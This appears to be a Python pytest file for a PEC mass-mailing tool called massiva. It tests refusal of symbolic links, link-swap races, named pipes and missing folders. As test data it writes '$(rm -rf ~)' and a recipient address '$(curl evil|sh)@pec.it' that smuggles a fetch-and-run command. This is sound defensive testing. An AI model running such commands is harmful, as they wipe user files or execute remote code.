"""Files massiva writes appear whole and never through a symbolic link; files it copies
or sends are read as the campaign check found them, never through a link swapped in."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from starlette.applications import Starlette

from massiva.campaign import CampaignError, check, load_spec, message_attachments, paths
from massiva.campaign.paths import PathProblem, open_inside, real_root
from massiva.files import TargetRefused, atomic_write
from massiva.simulator import Simulator
from tests.cli import Invoke

BASHRC = "echo 'my shell settings'\n"


def link_message(path: Path) -> str:
    return (
        f"{path} is a symbolic link: massiva does not write through links; remove it and run again"
    )


@pytest.fixture
def umask() -> Iterator[int]:
    """The process umask, set to 022 for the test."""
    old = os.umask(0o022)
    yield 0o022
    os.umask(old)


@pytest.fixture
def bashrc(tmp_path: Path) -> Path:
    """A file outside everything massiva is asked to write: it must never change."""
    path = tmp_path / "home" / ".bashrc"
    path.parent.mkdir()
    path.write_text(BASHRC, encoding="utf-8")
    return path


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".partial"))


# --- atomic_write ------------------------------------------------------------------


def test_a_new_file_appears_whole_with_the_usual_mode(tmp_path: Path, umask: int) -> None:
    target = tmp_path / "out.csv"
    with atomic_write(target, encoding="utf-8-sig", newline="") as out:
        out.write("row;column\r\n")
        assert not target.exists()  # only once the block ends

    assert target.read_bytes() == b"\xef\xbb\xbfrow;column\r\n"
    assert target.stat().st_mode & 0o777 == 0o666 & ~umask
    assert leftovers(tmp_path) == []


def test_an_existing_file_is_replaced_and_an_error_keeps_it(tmp_path: Path) -> None:
    target = tmp_path / "out.bin"
    target.write_bytes(b"old")
    with atomic_write(target) as out:
        out.write(b"new")
    assert target.read_bytes() == b"new"

    def fail_half_way() -> None:
        with atomic_write(target) as out:
            out.write(b"half")
            raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        fail_half_way()

    assert target.read_bytes() == b"new"
    assert leftovers(tmp_path) == []


def test_a_symbolic_link_is_refused_not_followed(tmp_path: Path, bashrc: Path) -> None:
    target = tmp_path / "rejects.csv"
    target.symlink_to(bashrc)
    dangling = tmp_path / "new.csv"
    dangling.symlink_to(tmp_path / "home" / ".profile")  # would create a file there

    for path in (target, dangling):
        with pytest.raises(TargetRefused) as refused, atomic_write(path) as out:
            out.write(b"$(rm -rf ~)")
        assert str(refused.value) == link_message(path)

    assert bashrc.read_text(encoding="utf-8") == BASHRC
    assert not (tmp_path / "home" / ".profile").exists()
    assert target.is_symlink() and dangling.is_symlink()  # left as they were
    assert leftovers(tmp_path) == []


def test_a_link_put_there_while_writing_is_refused_too(tmp_path: Path, bashrc: Path) -> None:
    target = tmp_path / "rejects.csv"

    def link_meanwhile() -> None:
        with atomic_write(target) as out:
            out.write(b"rows")
            target.symlink_to(bashrc)

    with pytest.raises(TargetRefused, match="is a symbolic link"):
        link_meanwhile()

    assert bashrc.read_text(encoding="utf-8") == BASHRC
    assert leftovers(tmp_path) == []


def test_a_folder_is_refused(tmp_path: Path) -> None:
    with pytest.raises(TargetRefused) as refused, atomic_write(tmp_path) as out:
        out.write(b"x")
    assert str(refused.value) == f"{tmp_path} is a folder: give the name of a file"


# --- campaign check and its rejects file -------------------------------------------


def campaign(folder: Path, csv: str) -> Path:
    """A campaign folder of the demo box with ``csv`` as its recipients."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "campaign.toml").write_text(
        'name = "prova"\nmailbox = "demo@pecmassiva.com"\nsubject = "Avviso {{ nome }}"\n'
        'body = "<p>Gentile {{ nome }}</p>"\nrecipients = "destinatari.csv"\n'
        'address_column = "pec"\n',
        encoding="utf-8",
    )
    (folder / "destinatari.csv").write_text(csv, encoding="utf-8")
    return folder


BAD_ROW = "pec;nome\nmario@pec.it;Mario\n$(curl evil|sh)@pec.it;Luigi\n"


def test_check_refuses_a_linked_rejects_file(invoke: Invoke, tmp_path: Path, bashrc: Path) -> None:
    folder = campaign(tmp_path / "c", BAD_ROW)
    (folder / "rejects.csv").symlink_to(bashrc)

    result = invoke("campaign", "check", str(folder))
    as_json = invoke("campaign", "check", str(folder), "--json")

    message = link_message(folder / "rejects.csv")
    assert (result.exit_code, result.stdout, result.stderr) == (2, "", f"Error: {message}\n")
    assert as_json.exit_code == 2
    assert json.loads(as_json.stdout) == {"error": {"message": message, "exit_code": 2}}
    assert bashrc.read_text(encoding="utf-8") == BASHRC
    assert leftovers(folder) == []


def test_check_writes_the_rejects_file_in_place_of_an_old_one(
    invoke: Invoke, tmp_path: Path
) -> None:
    folder = campaign(tmp_path / "c", BAD_ROW)
    (folder / "rejects.csv").write_text("stale\n", encoding="utf-8")

    result = invoke("campaign", "check", str(folder))

    assert result.exit_code == 0, result.output
    assert (folder / "rejects.csv").read_text(encoding="utf-8-sig").splitlines()[0] == (
        "row;column;reason"
    )
    assert leftovers(folder) == []


def test_the_library_check_refuses_before_reading_any_row(tmp_path: Path, bashrc: Path) -> None:
    spec = load_spec(campaign(tmp_path / "c", BAD_ROW))
    link = tmp_path / "scarti.csv"
    link.symlink_to(bashrc)
    rows: list[int] = []

    with pytest.raises(TargetRefused, match="symbolic link"):
        check(spec, rejects_csv=link, on_row=rows.append)

    assert rows == []
    assert bashrc.read_text(encoding="utf-8") == BASHRC


def test_preview_refuses_a_linked_html_out(invoke: Invoke, tmp_path: Path, bashrc: Path) -> None:
    folder = campaign(tmp_path / "c", BAD_ROW)
    link = tmp_path / "anteprima.html"
    link.symlink_to(bashrc)

    result = invoke("campaign", "preview", str(folder), "--html-out", str(link))

    assert result.exit_code == 2
    assert result.stderr == f"Error: {link_message(link)}\n"
    assert bashrc.read_text(encoding="utf-8") == BASHRC


# --- mailbox form -------------------------------------------------------------------


def test_mailbox_form_refuses_a_link_before_downloading(
    invoke: Invoke, app: Starlette, tmp_path: Path, bashrc: Path
) -> None:
    simulator: Simulator = app.state.simulator
    box_id = next(iter(simulator.caselle))
    link = tmp_path / "modulo.pdf"
    link.symlink_to(bashrc)

    refused = invoke("mailbox", "form", box_id, "-o", str(link))
    saved = invoke("mailbox", "form", box_id, "-o", str(tmp_path / "vero.pdf"))

    assert (refused.exit_code, refused.stderr) == (2, f"Error: {link_message(link)}\n")
    assert bashrc.read_text(encoding="utf-8") == BASHRC
    assert saved.exit_code == 0, saved.output
    assert (tmp_path / "vero.pdf").read_bytes().startswith(b"%PDF")
    downloads = [r.path for r in simulator.requests if r.path.endswith("/modulo_attivazione")]
    assert downloads == [f"/pec/{box_id}/modulo_attivazione"]  # the refused one asked nothing


def test_mailbox_form_into_a_missing_folder_says_so(
    invoke: Invoke, app: Starlette, tmp_path: Path
) -> None:
    box_id = next(iter(app.state.simulator.caselle))
    target = tmp_path / "nessuna" / "modulo.pdf"

    result = invoke("mailbox", "form", box_id, "-o", str(target))

    assert result.exit_code == 2
    assert result.stderr == (
        f"Error: {target} cannot be written (No such file or directory); give another -o\n"
    )


# --- reading inside the campaign folder --------------------------------------------


def test_open_inside_reads_a_file_and_follows_links_that_stay_inside(tmp_path: Path) -> None:
    (tmp_path / "allegati").mkdir()
    (tmp_path / "allegati" / "v2.pdf").write_bytes(b"%PDF v2")
    (tmp_path / "allegati" / "ultimo.pdf").symlink_to("v2.pdf")
    root = real_root(tmp_path)

    with open_inside(root, "allegati/ultimo.pdf") as file:
        assert file.read() == b"%PDF v2"


def test_open_inside_refuses_a_file_swapped_for_a_link_after_the_check(
    tmp_path: Path, bashrc: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "c"
    (folder / "allegati").mkdir(parents=True)
    (folder / "allegati" / "a.pdf").write_bytes(b"%PDF mine")
    checked = paths.resolve_inside

    def check_then_swap(root: str, name: str) -> tuple[str, str]:
        found = checked(root, name)  # the check passes...
        os.unlink(found[1])  # ...then the file becomes a link to one outside
        os.symlink(bashrc, found[1])
        return found

    monkeypatch.setattr(paths, "resolve_inside", check_then_swap)

    with pytest.raises(PathProblem) as refused:
        open_inside(real_root(folder), "allegati/a.pdf")

    assert str(refused.value) == (
        "was replaced by a symbolic link after it was checked; put the file back and run again"
    )


def test_open_inside_refuses_a_folder_swapped_for_a_link_after_the_check(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "c"
    (folder / "allegati").mkdir(parents=True)
    (folder / "allegati" / "a.pdf").write_bytes(b"%PDF mine")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "a.pdf").write_bytes(b"%PDF theirs")
    checked = paths.resolve_inside

    def check_then_swap(root: str, name: str) -> tuple[str, str]:
        found = checked(root, name)
        (folder / "allegati").rename(folder / "old")
        (folder / "allegati").symlink_to(outside)
        return found

    monkeypatch.setattr(paths, "resolve_inside", check_then_swap)

    with pytest.raises(PathProblem, match="replaced by a symbolic link"):
        open_inside(real_root(folder), "allegati/a.pdf")


def test_open_inside_refuses_a_named_pipe_without_hanging(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.pdf")

    with pytest.raises(PathProblem) as refused:
        open_inside(real_root(tmp_path), "pipe.pdf")

    assert str(refused.value) == "is not a regular file (a folder, a pipe...); name a file"


def test_sending_never_reads_an_attachment_swapped_for_a_link(
    tmp_path: Path, bashrc: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = campaign(tmp_path / "c", "pec;nome;allegato\nmario@pec.it;Mario;a.pdf\n")
    with (folder / "campaign.toml").open("a", encoding="utf-8") as toml:
        toml.write('attachment_column = "allegato"\n')
    (folder / "a.pdf").write_bytes(b"%PDF mine")
    spec = load_spec(folder)
    checked = paths.resolve_inside

    def check_then_swap(root: str, name: str) -> tuple[str, str]:
        found = checked(root, name)
        os.unlink(found[1])
        os.symlink(bashrc, found[1])
        return found

    monkeypatch.setattr(paths, "resolve_inside", check_then_swap)

    with pytest.raises(CampaignError) as refused:
        message_attachments(spec, "a.pdf")

    assert refused.value.problems == [
        'attachment "a.pdf" was replaced by a symbolic link after it was checked;'
        " put the file back and run again"
    ]


def test_check_into_a_missing_folder_says_so(invoke: Invoke, tmp_path: Path) -> None:
    folder = campaign(tmp_path / "c", BAD_ROW)
    target = tmp_path / "nessuna" / "scarti.csv"

    result = invoke("campaign", "check", str(folder), "--rejects", str(target))

    assert result.exit_code == 2
    assert result.stderr == (
        f"Error: {target.parent}: no such folder; create it, or give another --rejects\n"
    )


def test_preview_into_a_missing_folder_says_so(invoke: Invoke, tmp_path: Path) -> None:
    folder = campaign(tmp_path / "c", BAD_ROW)
    target = tmp_path / "nessuna" / "anteprima.html"

    result = invoke("campaign", "preview", str(folder), "--html-out", str(target))

    assert result.exit_code == 2
    assert result.stderr == (
        f"Error: {target} cannot be written (No such file or directory); give another --html-out\n"
    )


def test_a_file_rewritten_keeps_its_permissions(tmp_path: Path) -> None:
    target = tmp_path / "scarti.csv"
    target.write_text("old\n", encoding="utf-8")
    target.chmod(0o600)

    with atomic_write(target, encoding="utf-8") as out:
        out.write("new\n")

    assert target.read_text(encoding="utf-8") == "new\n"
    assert target.stat().st_mode & 0o777 == 0o600
